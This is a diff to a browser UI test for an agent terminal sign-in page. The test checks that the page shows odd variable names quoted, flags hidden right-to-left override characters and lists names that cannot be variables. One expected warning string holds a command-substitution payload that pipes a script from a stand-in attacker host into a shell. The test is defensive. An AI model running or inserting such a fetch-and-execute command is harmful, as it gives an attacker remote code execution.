@@ -187,8 +187,12 @@ def test_a_terminal_sign_in_shows_odd_variable_names_quoted_and_hidden_character
         expect(warning).to_contain_text("'$(curl evil.example|sh)'")
         expect(warning).to_contain_text("right-to-left override")
         expect(warning).to_contain_text("Left out, since no variable can have that name: A=B.")
-        for variant, (viewport, scheme) in VARIANTS.items():  # the warning in view at every size
+        unusable = sign_in.get_by_test_id("auth-unusable-vars")
+        expect(unusable).to_contain_text("asks for A=B, KEY⟨U+202E⟩X, which cannot be the name")
+        expect(sign_in.get_by_test_id("auth-var")).to_have_count(1)  # only the usable one is asked for
+        for variant, (viewport, scheme) in VARIANTS.items():  # each warning in view at every size
             page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
             page.set_viewport_size(viewport)
-            warning.scroll_into_view_if_needed()
-            screenshot(page, f"agents-sign-in-odd-command-{variant}")
+            for name, shown in (("form", unusable), ("command", warning)):
+                shown.scroll_into_view_if_needed()
+                screenshot(page, f"agents-sign-in-odd-{name}-{variant}")
